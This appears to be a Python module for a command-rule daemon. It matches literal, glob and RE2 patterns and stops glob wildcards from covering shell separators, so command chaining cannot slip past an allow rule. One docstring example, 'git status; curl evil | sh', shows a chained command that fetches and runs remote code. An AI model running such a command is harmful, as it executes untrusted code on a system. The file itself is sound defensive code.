"""Patterns in rules: literal text, globs and regular expressions, matched in linear time.

Globs and regular expressions run on RE2. It has no look-around and no backreferences, and
in return no pattern can stall the daemon.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from functools import lru_cache
from typing import Any, Literal, TypeAlias

import re2

#: Characters that end, join, redirect or substitute in a shell command.
SHELL_SEPARATORS = ";&|<>()$`\n\r\0"

#: Size of the cache of compiled patterns. If the rules have more, every lookup misses.
MAX_COMPILED = 20_000

_NO_CHARACTER = r"[^\x{0}-\x{10FFFF}]"
_ANY_CHARACTER = r"[\x{0}-\x{10FFFF}]"

#: The first and the last character of a range.
_Range: TypeAlias = tuple[int, int]


@dataclass(frozen=True, slots=True)
class Pattern:
    """A pattern for a text: a literal, a glob, or a regular expression to search for."""

    text: str
    kind: Literal["literal", "glob", "regex"] = "glob"

    def matches(self, value: str) -> bool:
        if self.kind == "glob" and self.text == "*":
            return True  # fast path for most fields of most rules
        if self.kind == "literal":
            return self.text == value
        compiled = _glob(self.text) if self.kind == "glob" else compile_regex(self.text)
        return compiled.search(_encodable(value)) is not None

    def matches_one_command(self, value: str) -> bool:
        """Match without letting a wildcard of a glob cover a shell separator.

        ``git status*`` must not match ``git status; curl evil | sh``.
        """
        if self.kind != "glob":
            return self.matches(value)
        return _glob(self.text, excluded=SHELL_SEPARATORS).search(_encodable(value)) is not None


@lru_cache(maxsize=MAX_COMPILED)
def compile_regex(pattern: str) -> Any:  # noqa: ANN401 - re2 has no type information
    """Compile a regular expression for RE2. Raises ``ValueError`` if RE2 refuses it."""
    options = re2.Options()
    options.log_errors = False
    options.never_capture = True
    try:
        return re2.compile(_encodable(pattern), options)
    except re2.error as error:
        message = error.args[0] if error.args else ""
        detail = (
            message.decode(errors="replace") if isinstance(message, bytes) else str(message)
        )
        raise ValueError(
            f"not a regular expression for RE2: {detail}"
            " (RE2 has no look-around and no backreferences)"
        ) from error


def _encodable(text: str) -> str:
    """Replace lone surrogates, which RE2 cannot encode."""
    return text if text.isascii() else text.encode(errors="replace").decode()


@lru_cache(maxsize=MAX_COMPILED)
def _glob(glob: str, *, excluded: str = "") -> Any:  # noqa: ANN401 - re2 has no type information
    return compile_regex(rf"\A{''.join(_translate(glob, excluded))}\z")


def _translate(glob: str, excluded: str) -> Iterator[str]:
    """Yield the parts of a regular expression that matches the same texts as the glob.

    Globs are read as in ``fnmatch``, but no wildcard matches an ``excluded`` character.
    """
    any_character = _character_class([], excluded, is_negated=True)
    place = 0
    while place < len(glob):
        character = glob[place]
        end = _end_of_brackets(glob, place) if character == "[" else None
        if end:
            yield _brackets(glob[place + 1 : end], excluded)
            place = end
        elif character == "*":
            yield f"{any_character}*"
        elif character == "?":
            yield any_character
        else:
            yield _escape(ord(character))
        place += 1


def _end_of_brackets(glob: str, start: int) -> int | None:
    """Return the index at which a bracket expression ends; ``None`` if it is not closed."""
    inside = start + 1
    if glob[inside : inside + 1] == "!":
        inside += 1
    # A closing bracket that comes first is a member of the set.
    end = glob.find("]", inside + 1)
    return None if end < 0 else end


def _brackets(inside: str, excluded: str) -> str:
    is_negated = inside.startswith("!")
    ranges = list(_ranges(inside[is_negated:]))
    if not is_negated and any(low <= ord(c) <= high for c in excluded for low, high in ranges):
        return _NO_CHARACTER
    return _character_class(ranges, excluded, is_negated=is_negated)


def _ranges(members: str) -> Iterator[_Range]:
    place = 0
    while place < len(members):
        low = high = ord(members[place])
        if members[place + 1 : place + 2] == "-" and place + 2 < len(members):
            high = ord(members[place + 2])
            place += 2
        if low <= high:
            yield low, high
        place += 1


def _character_class(ranges: list[_Range], excluded: str, *, is_negated: bool) -> str:
    if is_negated:
        ranges = [*ranges, *((ord(each), ord(each)) for each in excluded)]
    if not ranges:
        return _ANY_CHARACTER if is_negated else _NO_CHARACTER
    members = "".join(f"{_escape(low)}-{_escape(high)}" for low, high in ranges)
    return f"[{'^' if is_negated else ''}{members}]"


def _escape(code: int) -> str:
    return rf"\x{{{code:X}}}"
